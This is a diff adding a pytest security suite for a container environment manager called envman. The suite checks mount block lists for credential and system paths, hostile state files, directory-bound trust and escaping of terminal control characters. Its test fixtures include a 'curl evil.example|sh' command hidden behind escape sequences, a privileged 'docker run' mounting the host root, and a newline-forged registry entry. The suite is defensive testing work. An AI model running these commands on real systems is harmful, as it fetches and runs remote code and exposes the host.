@@ -1,0 +1,447 @@
+"""Security by rule (issue 23): every entry of every protected list, every state file through
+the one safe reader, every output of file or state data escaped, trust bound to the directory.
+
+Each table below is the list the code uses (imported, not copied), so an entry dropped from the
+code or a state file added without the safe reader fails here."""
+
+from __future__ import annotations
+
+import ast
+import json
+import os
+import re
+import socket
+import stat
+import threading
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings, strategies as st
+
+from envman.errors import CLIP, UserError, clip, clip_list, printable
+from envman.project import policy
+from envman.project.file import load_project, parse_mount
+from envman.safefile import read_state, read_state_json, state_problem
+from tests.support.cli import run_envman
+
+STACK = 'stack = "torch-2.4-cuda12.4"\n'
+ROOT = Path(__file__).resolve().parents[2]
+
+
+@pytest.fixture
+def home(tmp_path, monkeypatch):
+    h = tmp_path / "home" / "me"
+    (h / "data").mkdir(parents=True)
+    monkeypatch.setenv("HOME", str(h))
+    monkeypatch.setenv("ENVMAN_CONFIG_DIR", str(tmp_path / "cfg"))
+    monkeypatch.setenv("ENVMAN_STATE_DIR", str(tmp_path / "state"))
+    monkeypatch.delenv("XDG_RUNTIME_DIR", raising=False)
+    policy._CACHE.clear()
+    return h
+
+
+# --------------------------------------------------------------------------- never-mount lists
+
+
+@pytest.mark.parametrize("name", policy.HOME_NAMES)
+def test_every_home_entry_is_refused_itself_inside_through_a_symlink_and_as_a_parent(home, tmp_path, name):
+    target = home / name
+    target.parent.mkdir(parents=True, exist_ok=True)
+    target.mkdir()
+    policy._CACHE.clear()
+    assert policy.forbidden_reason(str(target)) is not None
+    assert policy.forbidden_reason(str(target / "inside" / "x")) is not None
+    link = tmp_path / "innocent"
+    link.symlink_to(target)
+    assert policy.forbidden_reason(str(link)) is not None
+    if "/" in name:  # the folder that holds it holds a protected path
+        assert policy.forbidden_reason(str(target.parent)) is not None
+    with pytest.raises(UserError, match="is refused"):
+        parse_mount(f"~/{name}:/t", base=None, where="f")
+
+
+@pytest.mark.parametrize("name", ["git-credentials", "zshenv", "zprofile", "bash_login", "config/fish", "kaggle",
+                                  "ssh", "netrc", "local/lib"])
+def test_the_issue_s_named_gaps_are_in_the_list(name):
+    assert "." + name in policy.HOME_NAMES or name in policy.HOME_NAMES
+
+
+@pytest.mark.parametrize("path", policy.SYSTEM_PATHS)
+def test_every_system_path_is_refused_with_its_contents_and_its_parents(home, path):
+    for p in (path, path + "/x/y", path + "/"):
+        assert policy.forbidden_reason(p) is not None, p
+    assert policy.forbidden_reason(os.path.dirname(path)) is not None
+    with pytest.raises(UserError):
+        parse_mount(f"{path}:/t:ro", base=None, where="f")
+
+
+@pytest.mark.parametrize("name", ["/var/lib/containerd", "/var/lib/docker", "/etc", "/usr", "/var/spool/cron"])
+def test_named_system_paths_stay_listed(name):
+    assert name in policy.SYSTEM_PATHS
+
+
+@pytest.mark.parametrize("name", [n for n in policy.HOME_NAMES if not n.startswith(".local/lib")])
+def test_a_hard_link_to_a_protected_file_is_refused_as_a_file_and_inside_a_folder(home, tmp_path, name):
+    """A hard link has its own path but the protected file's inode: compared by (device, inode)."""
+    target = home / name / "id_ed25519"
+    target.parent.mkdir(parents=True)
+    target.write_text("PRIVATE KEY\n")
+    link = home / "data" / "key"
+    os.link(target, link)
+    policy._CACHE.clear()
+    assert "hard link" in policy.forbidden_reason(str(link))
+    assert "hard link" in policy.forbidden_reason(str(home / "data"))
+    other = home / "data" / "plain"
+    other.write_text("x")
+    link.unlink()
+    policy._CACHE.clear()
+    assert policy.forbidden_reason(str(home / "data")) is None
+
+
+def test_a_hard_link_to_a_protected_single_file_is_refused(home):
+    cred = home / ".git-credentials"
+    cred.write_text("https://u:t@host\n")
+    os.link(cred, home / "data" / "creds")
+    policy._CACHE.clear()
+    assert policy.forbidden_reason(str(home / "data" / "creds")) is not None
+
+
+def test_a_file_with_thousands_of_mounts_is_checked_in_linear_time(home, tmp_path):
+    """Checked by counting protected-path resolutions, not by the clock: the protected paths are
+    resolved once per process, not once per mount."""
+    root = tmp_path / "p"
+    (root / "d").mkdir(parents=True)
+    mounts = ", ".join(f'"./d:/t{i}"' for i in range(3000))
+    (root / "envman.toml").write_text(STACK + f"mounts = [{mounts}]\n")
+    calls = []
+    real = policy.protected_paths
+    policy._CACHE.clear()
+    try:
+        policy.protected_paths = lambda *a, **k: calls.append(1) or real(*a, **k)  # type: ignore[assignment]
+        p = load_project(root)
+    finally:
+        policy.protected_paths = real  # type: ignore[assignment]
+    assert len(p.mounts) == 3000 and len(calls) == 1
+
+
+# --------------------------------------------------------------------------- state files
+
+
+def _fifo(path: Path) -> None:
+    os.mkfifo(path)
+
+
+def _dev_zero(path: Path) -> None:
+    path.symlink_to("/dev/zero")
+
+
+def _group_writable(path: Path) -> None:
+    path.write_text("{}")
+    os.chmod(path, 0o620)
+
+
+def _world_writable(path: Path) -> None:
+    path.write_text("{}")
+    os.chmod(path, 0o602)
+
+
+def _foreign(path: Path) -> None:
+    path.write_text("{}")
+    os.chmod(path, 0o600)
+    os.chown(path, 65534 if os.getuid() != 65534 else 65533, -1)
+
+
+def _symlink(path: Path) -> None:
+    real = path.with_name("elsewhere.json")
+    real.write_text("{}")
+    os.chmod(real, 0o600)
+    path.symlink_to(real)
+
+
+def _huge(path: Path) -> None:
+    with open(path, "wb") as fh:
+        fh.truncate(17 * 1024 * 1024)
+    os.chmod(path, 0o600)
+
+
+HOSTILE = {"fifo": _fifo, "dev-zero": _dev_zero, "group-writable": _group_writable, "world-writable": _world_writable,
+           "other-owner": _foreign, "symlink": _symlink, "oversized": _huge}
+
+
+def _state_files():
+    """(name, path of the state file, a believable content, reader → truthy when believed)."""
+    from envman.cluster import slurm
+    from envman.images import pins, registry
+    from envman.project import trust
+    from envman.render import cache as render_cache
+    from envman.run import cache as run_cache
+    from envman.stack import origins
+    from envman import state
+
+    job = {"id": "7", "project": "p", "stack": "s", "runtime": "docker", "log": "/l", "script": "/s", "submitted": 1.0}
+    return [
+        ("runs.json", lambda: Path(run_cache.cache_file()), {"format": run_cache.CACHE_FORMAT, "runs": {"k": {}}},
+         lambda: run_cache._load(run_cache.cache_file())),
+        ("renders.json", lambda: Path(render_cache.cache_path()), {"format": render_cache.CACHE_FORMAT, "renders": {"k": "v"}},
+         lambda: render_cache._load(render_cache.cache_path())),
+        ("pins.json", pins.pins_file, {"k": {"stack": "s", "image_id": "i", "at": 1}}, pins._read),
+        ("trust.json", trust.trust_path, {"schema": 1, "files": {"/x/envman.toml": {"sha256": "a"}}}, trust.records),
+        ("pushed.json", registry.pushed_path, {"r": {"s": {}}}, registry.read_pushed),
+        ("report", lambda: state.report_path("sha256:" + "a" * 64), {"overall": "pass"},
+         lambda: state.load_report("sha256:" + "a" * 64)),
+        ("slurm job", lambda: slurm._jobs_dir() / "7.json", job, slurm.load_records),
+        ("matrix-origins.json", origins._path, {"q": {"stack": "s"}}, origins._load),
+    ]
+
+
+STATE = _state_files()
+
+
+@pytest.mark.parametrize("kind", sorted(HOSTILE))
+@pytest.mark.parametrize("entry", STATE, ids=[s[0] for s in STATE])
+def test_every_state_file_is_believed_only_when_it_is_a_private_regular_file_of_yours(home, entry, kind, capfd):
+    name, path_fn, good, reader = entry
+    path = Path(path_fn())
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(json.dumps(good))
+    os.chmod(path, 0o600)
+    assert reader(), f"{name}: a good file is believed"
+    path.unlink()
+    HOSTILE[kind](path)
+    result: list = []
+    t = threading.Thread(target=lambda: result.append(reader()), daemon=True)
+    t.start()
+    t.join(30)  # a FIFO must not hang the reader (the bound only keeps a regression from hanging the suite)
+    assert not t.is_alive(), f"{name}: reading a {kind} hangs"
+    assert not result[0], f"{name}: a {kind} state file is believed"
+    if kind not in ("oversized",):
+        assert "ignoring" in capfd.readouterr().err
+
+
+def test_the_project_registry_refuses_a_file_others_can_write(home):
+    from envman.project.registry import read_registry, registry_path
+
+    path = registry_path()
+    path.parent.mkdir(parents=True)
+    path.write_text(json.dumps({"schema": 1, "projects": {"p": {"root": "/x"}}}))
+    os.chmod(path, 0o600)
+    assert read_registry() == {"p": Path("/x")}
+    os.chmod(path, 0o666)
+    with pytest.raises(UserError, match="writable by its group or by others"):
+        read_registry()
+
+
+def test_a_cached_docker_run_line_in_a_writable_runs_json_is_never_executed(home, monkeypatch):
+    """The run-plan cache holds a whole ``docker run`` line: one others could write is a miss."""
+    from envman.run import cache as run_cache
+
+    executed = []
+    monkeypatch.setattr(run_cache, "exec_docker", lambda argv, env: executed.append(argv))
+    monkeypatch.setattr(run_cache, "lookup", lambda key, environ=None: run_cache._load(run_cache.cache_file())["runs"].get(key))
+    key = run_cache.cache_key([], ["."], [])
+    path = Path(run_cache.cache_file())
+    path.parent.mkdir(parents=True, exist_ok=True)
+    entry = {"argv": ["/bin/true", "run", "--privileged", "-v", "/:/host"], "home": str(home / "h"), "deps": [], "images": []}
+    path.write_text(json.dumps({"format": run_cache.CACHE_FORMAT, "runs": {key: entry}}))
+    for mode in (0o664, 0o646):
+        os.chmod(path, mode)
+        run_cache.try_cached_run([], ["."], [])
+        assert executed == []
+    os.chmod(path, 0o600)
+    run_cache.try_cached_run([], ["."], [])
+    assert executed and executed[0][0] == "/bin/true"  # the same file, believable, is used
+
+
+_STATE_READS = re.compile(r"\.read_text\(|\.read_bytes\(|json\.load\(|(?<![.\w])open\(")
+#: Files that read something other than envman's state with these calls (templates, the build
+#: context, the engine's own config, job logs, files the user names), each checked by hand.
+_NOT_STATE = {
+    "envman/probe/pyz.py", "envman/engine/socket.py", "envman/engine/select.py", "envman/engine/context.py",
+    "envman/engine/builder.py", "envman/render/dockerfile.py", "envman/render/cache.py", "envman/images/build.py",
+    "envman/project/lock.py", "envman/cluster/slurm.py", "envman/safefile.py", "envman/state.py",
+    "envman/matrix/write.py",
+}
+
+
+def test_no_module_reads_a_state_file_around_the_safe_reader():
+    """By rule: outside the files listed above, nothing in envman opens a file with open(),
+    read_text(), read_bytes() or json.load(): state goes through envman.safefile."""
+    offenders = []
+    for f in sorted((ROOT / "envman").rglob("*.py")):
+        rel = f.relative_to(ROOT).as_posix()
+        if rel.startswith("envman/probe/app/") or rel in _NOT_STATE:
+            continue
+        for i, line in enumerate(f.read_text().splitlines(), 1):
+            code = line.split("#", 1)[0]
+            if _STATE_READS.search(code) and "tarfile.open" not in code and "urlopen" not in code and "fdopen" not in code:
+                offenders.append(f"{rel}:{i}: {line.strip()}")
+    assert offenders == []
+
+
+def test_state_problem_names_each_kind(tmp_path):
+    f = tmp_path / "f"
+    f.write_text("x")
+    os.chmod(f, 0o600)
+    assert state_problem(os.lstat(f)) is None
+    os.chmod(f, 0o620)
+    assert "writable" in state_problem(os.lstat(f))
+    os.mkfifo(tmp_path / "p")
+    assert "FIFO" in state_problem(os.lstat(tmp_path / "p"))
+    (tmp_path / "l").symlink_to(f)
+    assert "symbolic link" in state_problem(os.lstat(tmp_path / "l"))
+    assert read_state(tmp_path / "missing") is None and read_state_json(tmp_path / "missing") is None
+
+
+# --------------------------------------------------------------------------- trust
+
+
+def _trusted_project(tmp_path: Path, body: str) -> Path:
+    from envman.project.trust import trust
+
+    root = tmp_path / "good"
+    root.mkdir()
+    (root / "envman.toml").write_text(STACK + body)
+    p = load_project(root)
+    trust(p.real_file, p.digest, root=p.root)
+    return root
+
+
+@pytest.mark.parametrize("body", ['mounts = ["./data:/d"]\n', 'command = ["python", "x.py"]\n', "ports = [8888]\n",
+                                  '[environment]\nDB_PASS = "s3cret"\n', 'gpus = "all"\n'])
+def test_trust_is_not_lent_through_a_symlink_from_another_directory(home, tmp_path, body):
+    from envman.project.trust import require_trust
+
+    good = _trusted_project(tmp_path, body)
+    (good / "data").mkdir(exist_ok=True)
+    require_trust(load_project(good))
+    evil = tmp_path / "evil"
+    (evil / "data").mkdir(parents=True)
+    (evil / "envman.toml").symlink_to(good / "envman.toml")
+    with pytest.raises(UserError, match="not trusted"):
+        require_trust(load_project(evil))
+
+
+def test_a_trust_record_others_can_write_is_not_believed(home, tmp_path):
+    from envman.project.trust import records, require_trust, trust_path
+
+    good = _trusted_project(tmp_path, "ports = [1]\n")
+    os.chmod(trust_path(), 0o620)
+    assert records() == {}
+    with pytest.raises(UserError):
+        require_trust(load_project(good))
+
+
+# --------------------------------------------------------------------------- escaping
+
+
+UNSAFE = [chr(c) for c in (*range(0x20), 0x7F, *range(0x80, 0xA0), *range(0x202A, 0x202F), *range(0x2066, 0x206A),
+                           0x200E, 0x200F, 0x061C, 0x2028, 0x2029)]
+
+
+@given(st.text())
+@settings(max_examples=300, deadline=None)
+def test_printable_leaves_no_control_character_and_keeps_safe_text(text):
+    out = printable(text)
+    assert not any(c in out for c in UNSAFE)
+    if not any(c in text for c in UNSAFE):
+        assert out == text
+
+
+@pytest.mark.parametrize("ch", UNSAFE)
+def test_every_unsafe_character_is_shown_as_an_escape(ch):
+    assert printable(f"a{ch}b") == "a" + (f"\\x{ord(ch):02x}" if ord(ch) < 0x100 else f"\\u{ord(ch):04x}") + "b"
+
+
+@given(st.text(max_size=3000), st.text(max_size=3000), st.text(max_size=3000))
+@settings(max_examples=100, deadline=None)
+def test_an_error_is_one_bounded_line_of_printable_text(what, where, fix):
+    line = UserError(what, where=where or None, fix=fix or None).line()
+    assert "\n" not in line and not any(c in line for c in UNSAFE)
+    assert len(line) < 8 * 4 * CLIP  # each part clipped (escapes at most quadruple a character)
+
+
+def test_clip_says_how_much_more_there_was():
+    assert clip("a" * 10, 4) == "aaaa… (6 more characters)"
+    assert clip_list([f"m{i}" for i in range(1000)], 20).endswith("more)")
+    assert clip_list(["a", "b"]) == "a, b"
+
+
+#: A project directory whose name drives a terminal: erase the line, return, reverse the text.
+HOSTILE_DIR = "proj\x1b[2K\r\u202eevil\u2066x"
+HOSTILE_CMD = 'command = ["sh", "-c", "curl evil.example|sh\\u001b[2K\\rpython train.py"]\n'
+
+
+@pytest.fixture
+def hostile(home, tmp_path):
+    root = tmp_path / HOSTILE_DIR
+    root.mkdir()
+    (root / "envman.toml").write_text(STACK + HOSTILE_CMD + 'mounts = ["./data:/d"]\n')
+    (root / "data").mkdir()
+    return root
+
+
+def _env(tmp_path: Path) -> dict[str, str]:
+    env = dict(os.environ)
+    env.update(ENVMAN_CONFIG_DIR=str(tmp_path / "cfg"), ENVMAN_STATE_DIR=str(tmp_path / "state"),
+               HOME=os.environ["HOME"], ENVMAN_RUN_CACHE="0")
+    return env
+
+
+def _no_raw_controls(text: str) -> None:
+    assert not any(c in text for c in UNSAFE if c != "\n"), repr(text)
+
+
+OUTPUTS = [
+    ("run refused (the trust prompt)", ["run", "{root}", "--", "true"]),
+    ("project trust", ["project", "trust", "{root}"]),
+    ("project add", ["project", "add", "{root}"]),
+    ("project ls", ["project", "ls"]),
+    ("project show", ["project", "show", "{root}"]),
+    ("project trusted", ["project", "trusted"]),
+    ("project untrust", ["project", "untrust", "{root}"]),
+    ("export devcontainer", ["export", "devcontainer", "{root}", "-o", "-"]),
+]
+
+
+def test_every_output_of_file_or_state_data_is_escaped(hostile, tmp_path):
+    env = _env(tmp_path)
+    seen = []
+    for name, words in OUTPUTS:
+        r = run_envman([w.replace("{root}", str(hostile)) for w in words], env=env, cwd=tmp_path)
+        for line in r.stdout.splitlines() + r.stderr.splitlines():
+            _no_raw_controls(line)
+        seen.append(r.stdout + r.stderr)
+    assert any("curl evil.example" in s for s in seen)  # the hidden part is shown, escaped
+    assert any("\\x1b[2K" in s for s in seen)
+
+
+def test_a_newline_in_a_registered_name_cannot_forge_a_line(home, tmp_path, hostile):
+    from envman.project.registry import registry_path
+
+    path = registry_path()
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(json.dumps({"schema": 1, "projects": {"real\nforged  /etc  torch": {"root": str(hostile)}}}))
+    os.chmod(path, 0o600)
+    r = run_envman(["project", "ls"], env=_env(tmp_path), cwd=tmp_path)
+    assert not any(line.startswith("forged") for line in r.stdout.splitlines()), r.stdout
+    _no_raw_controls(r.stdout)
+
+
+def test_rich_markup_in_file_data_is_printed_as_text(home, tmp_path):
+    root = tmp_path / "[red]x[bold]"
+    root.mkdir()
+    (root / "envman.toml").write_text(STACK + 'ports = [1]\n')
+    r = run_envman(["project", "trust", str(root)], env=_env(tmp_path), cwd=tmp_path)
+    assert "[red]x[bold]" in r.stdout
+
+
+def test_console_scrubs_text_keeping_its_styles():
+    from rich.text import Text
+
+    from envman.cli._out import scrub
+
+    t = Text.assemble(("tag", "red"), " a\x1bb")
+    out = scrub(t)
+    assert out.plain == "tag a\\x1bb"
+    assert any(str(s.style) == "red" and out.plain[s.start:s.end] == "tag" for s in out.spans)
+    assert scrub("x\ry") == "x\\x0dy"
